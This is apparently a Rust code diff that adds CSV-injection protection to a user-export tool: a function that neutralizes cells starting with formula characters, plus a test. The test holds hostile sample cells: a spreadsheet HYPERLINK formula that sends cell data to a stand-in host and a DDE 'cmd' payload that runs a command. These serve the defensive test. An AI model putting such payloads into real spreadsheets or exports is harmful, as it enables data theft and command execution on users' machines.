@@ -68,6 +68,18 @@ pub fn quota_name(quota: Option<Quota>) -> String {
     quota.map_or_else(|| "-".into(), |q| q.to_string())
 }
 
+/// A cell that a spreadsheet will not run as a formula (CSV injection): text starting with `=`,
+/// `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, as OWASP advises. Display
+/// names, departments and the server's messages come from the portal, where anyone may have
+/// written `=HYPERLINK(...)`.
+pub fn csv_cell(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
+    }
+}
+
 /// A user as `users list` prints it.
 #[derive(Debug, Clone, PartialEq, Serialize)]
 pub struct UserRow {
@@ -102,6 +114,21 @@ pub struct UserRow {
 }
 
 impl UserRow {
+    /// The same row with its free-text cells made safe for spreadsheets ([`csv_cell`]).
+    pub fn for_csv(mut self) -> Self {
+        let safe = |text: &mut String| {
+            if let std::borrow::Cow::Owned(owned) = csv_cell(text) {
+                *text = owned;
+            }
+        };
+        safe(&mut self.display_name);
+        safe(&mut self.email);
+        if let Some(department) = &mut self.department {
+            safe(department);
+        }
+        self
+    }
+
     /// The row of `user`, with the type named as `server` names it.
     pub fn new(user: &User, server: &Server) -> Self {
         UserRow {
@@ -235,6 +262,32 @@ pub fn to_stdout(
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn formula_cells_are_neutralized() {
+        for bad in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(csv_cell(bad), format!("'{bad}"));
+        }
+        assert_eq!(csv_cell("Ana & Bo"), "Ana & Bo");
+        assert_eq!(csv_cell(""), "");
+        let mut row = UserRow::new(
+            &serde_json::from_str(
+                r#"{"id":"75a5f745-f697-4418-b38d-0fe0d277e258","displayName":"=cmd|' /C calc'!A0","department":"@x"}"#,
+            )
+            .unwrap(),
+            &"DocSpace 3.7.1".parse().unwrap(),
+        );
+        row = row.for_csv();
+        assert_eq!(row.display_name, "'=cmd|' /C calc'!A0");
+        assert_eq!(row.department.as_deref(), Some("'@x"));
+    }
 
     #[test]
     fn terminal_controls_are_escaped() {
